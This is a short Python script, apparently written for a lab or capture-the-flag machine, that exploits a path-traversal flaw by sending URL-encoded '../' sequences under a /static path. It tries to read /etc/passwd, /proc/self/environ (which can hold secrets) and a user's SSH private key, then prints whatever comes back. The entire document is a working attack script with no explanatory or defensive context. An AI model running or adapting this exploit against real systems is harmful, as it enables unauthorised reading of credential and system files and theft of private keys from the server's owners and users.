import requests
import sys

target = sys.argv[1] if len(sys.argv) > 1 else "http://10.10.11.20"
for f in ["/etc/passwd", "/proc/self/environ", "/home/john/.ssh/id_rsa"]:
    url = f"{target}/static/..%2f..%2f..%2f..{f}"
    r = requests.get(url)
    print(f, r.status_code)
    if r.ok:
        print(r.text[:500])
